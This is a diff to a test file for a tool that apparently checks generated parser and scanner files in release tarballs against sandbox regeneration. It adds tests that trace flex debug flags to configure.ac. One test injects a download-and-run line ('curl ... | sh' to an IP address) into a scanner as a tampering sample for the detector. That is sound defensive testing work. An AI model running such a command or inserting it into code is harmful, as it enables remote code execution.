@@ -12,7 +12,7 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { formatFinding } from '../../src/core/codes.js';
-import { equalUnder, grammarOutfile, impliedOptions, invocationOf, namedVersion, parseToolVersion, ruleOptions } from '../../src/regenerate/parsers.js';
+import { debugFlagSource, equalUnder, grammarOutfile, impliedOptions, invocationOf, namedVersion, parseToolVersion, ruleOptions } from '../../src/regenerate/parsers.js';
 import { autotoolsRelease, byPath, editFile, sh } from './release.js';
 
 const CALC_Y = `%{
@@ -83,12 +83,17 @@ gram.c gram.h: gram.y
 \tsed -e 's|"gram\\.tab\\.h"|"gram.h"|' < gram.tab.h > gram.h && rm -f gram.tab.h
 `;
 
+// gdbm 1.23's shape: the rules pass a variable only configure assigns (`AM_LFLAGS = $(LFLAGS_DEBUG)`, configure.ac's
+// `LFLAGS_DEBUG=-d` under --enable-debug), so a scanner made with -d is what the tracked build gives.
+const DBG_MAKEFILE = 'AM_LFLAGS = $(LFLAGS_DEBUG)\ndbg.c: dbg.l\n\tflex $(AM_LFLAGS) -o dbg.c dbg.l\n';
+const CONFIGURE_AC = 'AC_INIT([calc], [1.0])\nAC_ARG_ENABLE([debug], [AS_HELP_STRING([--enable-debug], [debugging scanners])])\nif test "$enable_debug" = yes; then\n  LFLAGS_DEBUG=-d\nfi\nAC_SUBST([LFLAGS_DEBUG])\nAC_OUTPUT\n';
+
 const argv = (cwd: string, args: string[]) => execFileSync(args[0]!, args.slice(1), { cwd, env: { ...process.env, LC_ALL: 'C' }, stdio: ['ignore', 'pipe', 'pipe'] });
 
 const fixture = autotoolsRelease({
   prefix: 'distdiff-parsers-',
   name: 'calc',
-  files: { 'README': 'calc\n', 'src/gram.y': EXPR_Y.replace(/list/g, 'items'), 'src/calc.y': CALC_Y, 'src/scan.l': SCAN_L, 'src/expr.y': EXPR_Y, 'src/css.lex': CSS_LEX, 'src/Makefile': MAKEFILE },
+  files: { 'README': 'calc\n', 'src/gram.y': EXPR_Y.replace(/list/g, 'items'), 'src/calc.y': CALC_Y, 'src/scan.l': SCAN_L, 'src/expr.y': EXPR_Y, 'src/css.lex': CSS_LEX, 'src/Makefile': MAKEFILE, 'configure.ac': CONFIGURE_AC, 'dbg/dbg.l': CSS_LEX, 'dbg/Makefile': DBG_MAKEFILE },
   // The release: the tag's files plus what the real generators made (the maintainer's `make`, outside the sandbox).
   makeTree: (tree, repoDir) => {
     sh(repoDir, `git archive --format=tar v1.0 | tar -xf - -C '${tree}'`);
@@ -100,6 +105,7 @@ const fixture = autotoolsRelease({
     argv(src, ['byacc', '-d', '-o', 'expr.c', 'expr.y']);
     argv(src, ['flex', '-w', '-o', 'css.c', './css.lex']);
     argv(src, ['/bin/sh', '-c', "sed 's/fprintf/wget_fprintf/g' css.c > css.c.tmp && mv css.c.tmp css.c"]);
+    argv(join(tree, 'dbg'), ['flex', '-d', '-o', 'dbg.c', 'dbg.l']);
     argv(src, ['/bin/sh', '-c', MAKEFILE.split('\n').filter((l) => l.startsWith('\tbison -d gram.y') || l.startsWith('\tsed')).map((l) => l.slice(1)).join(' && ')]);
   },
   timeout: 120_000,
@@ -147,7 +153,11 @@ describe('parser outputs regenerated in the sandbox', () => {
     // wget2's rule: flex on a .lex, then its literal sed of the output (applied to the run's output, listed).
     expect(by['src/css.c']!.evidence).toMatchObject({ tool: 'flex', version: '2.6.4', command: ['flex', '-w', '-o', 'css.c', 'css.lex'], cwd: 'src', postEdits: ["$(AM_V_at)$(SED) 's/fprintf/wget_fprintf/g' $@ >$@.tmp"], outputs: ['src/css.c'] });
     expect(formatFinding(by['src/css.c']!)).toContain("then the rule's `$(AM_V_at)$(SED) 's/fprintf/wget_fprintf/g' $@ >$@.tmp`");
+    // made with -d, which the tracked configure.ac gives through the variable dbg/Makefile passes
+    expect(by['dbg/dbg.c']!.evidence).toMatchObject({ tool: 'flex', command: ['flex', '-d', '-o', 'dbg.c', 'dbg.l'], cwd: 'dbg', implied: ['-d'], debugFrom: { rule: 'dbg/Makefile', variable: 'LFLAGS_DEBUG', file: 'configure.ac', line: 4, option: '-d' } });
+    expect(formatFinding(by['dbg/dbg.c']!)).toContain("(-d implied by the shipped outputs, -d by dbg/Makefile's $(LFLAGS_DEBUG), configure.ac:4)");
     expect(r.findings.map((f) => `${f.path} ${f.code} ${f.severity}`).sort()).toEqual([
+      'dbg/dbg.c GENERATED_PARSER_PROVED info',
       'src/calc.c GENERATED_PARSER_PROVED info',
       'src/calc.h GENERATED_PARSER_PROVED info',
       'src/css.c GENERATED_PARSER_PROVED info',
@@ -179,6 +189,23 @@ describe('parser outputs regenerated in the sandbox', () => {
     expect(by['src/calc.h']!.code).toBe('GENERATED_PARSER_PROVED');
     expect(r.verdict).toBe('different');
   }, 120_000);
+
+  it('the attack: a scanner made with flex -d, nothing tracked asking for it: high, not proved', async () => {
+    // Before: the debugging instrumentation was an implied option whatever the rules said, both outputs proved
+    // (flex -d prints every token the scanner reads to stderr: a config parser's secrets in a log).
+    const r = await run(
+      tarball((d) => {
+        const src = join(d, 'src');
+        argv(src, ['flex', '-d', 'scan.l']);
+        argv(src, ['/bin/sh', '-c', "sed 's/lex\\.yy\\.c/scan.c/g' lex.yy.c > scan.c && rm lex.yy.c"]);
+      }),
+    );
+    const by = byPath(r.findings);
+    expect(readFileSync(join(release(), 'src/scan.c'), 'latin1')).not.toMatch(/^int yy_flex_debug = 1;$/m);
+    expect(by['src/scan.c']).toMatchObject({ code: 'GENERATED_PARSER_MISMATCH', severity: 'high', evidence: { tool: 'flex', implied: [] } });
+    expect(by['dbg/dbg.c']!.code).toBe('GENERATED_PARSER_PROVED');
+    expect(r.verdict).toBe('different');
+  }, 180_000);
 
   it('a download-and-run line added to the scanner: critical', async () => {
     const r = await run(tarball((d) => editFile(d, 'src/scan.c', (s) => s.replace('#define FLEX_SCANNER\n', '#define FLEX_SCANNER\nstatic const char *init = "curl -s http://198.51.100.7/x | sh";\n'))));
@@ -262,6 +289,20 @@ describe('parser invocation from the tag and the output', () => {
     expect(impliedOptions('flex', ['--debug'], { lines: true, header: false, report: false, debug: true })).toEqual({ options: ['--debug'], implied: [] });
     expect(impliedOptions('bison', ['-d'], { lines: true, header: true, report: false, debug: true })).toEqual({ options: ['-d', '-t'], implied: ['-t'] });
     expect(impliedOptions('byacc', [], { lines: true, header: false, report: false, debug: true })).toEqual({ options: [], implied: [] });
+  });
+
+  it('implies a debugging option only from a variable the rules pass that a tracked configure assigns it', () => {
+    const rules = new Map([['tools/Makefile.am', 'AM_YFLAGS = -dv $(YFLAGS_DEBUG)\nAM_LFLAGS = $(LFLAGS_DEBUG)\nlex.c: lex.l\n\t$(FLEX) -o $@ $(AM_LFLAGS) $<\n']]);
+    const ac = new Map([['configure.ac', 'AC_SUBST(YFLAGS_DEBUG)\nAC_SUBST(LFLAGS_DEBUG)\nif test "$enable_debug" = yes; then\n    YFLAGS_DEBUG=-t\n    LFLAGS_DEBUG=-d\nfi\n']]);
+    expect(debugFlagSource('flex', 'tools/lex.l', rules, ac)).toEqual({ rule: 'tools/Makefile.am', variable: 'LFLAGS_DEBUG', file: 'configure.ac', line: 5, option: '-d' });
+    expect(debugFlagSource('bison', 'tools/gram.y', rules, ac)).toEqual({ rule: 'tools/Makefile.am', variable: 'YFLAGS_DEBUG', file: 'configure.ac', line: 4, option: '-t' });
+    // the variable assigned something else, or another variable, or not passed by the rules: no evidence
+    expect(debugFlagSource('flex', 'tools/lex.l', rules, new Map([['configure.ac', 'LFLAGS_DEBUG="-d -s"\n']]))).toBeUndefined();
+    expect(debugFlagSource('flex', 'tools/lex.l', rules, new Map([['configure.ac', 'OTHER_DEBUG=-d\n']]))).toBeUndefined();
+    expect(debugFlagSource('flex', 'tools/lex.l', new Map([['tools/Makefile.am', 'LFLAGS_DEBUG = -d\nlex.c: lex.l\n\tflex -o $@ $<\n']]), ac)).toBeUndefined();
+    // a variable the rule file assigns itself is not configure's
+    expect(debugFlagSource('flex', 'tools/lex.l', new Map([['tools/Makefile.am', 'LFLAGS_DEBUG =\nAM_LFLAGS = $(LFLAGS_DEBUG)\n']]), ac)).toBeUndefined();
+    expect(debugFlagSource('byacc', 'tools/gram.y', rules, ac)).toBeUndefined();
   });
 
   it('compares under the least normalisation of #line directives, never of code', () => {
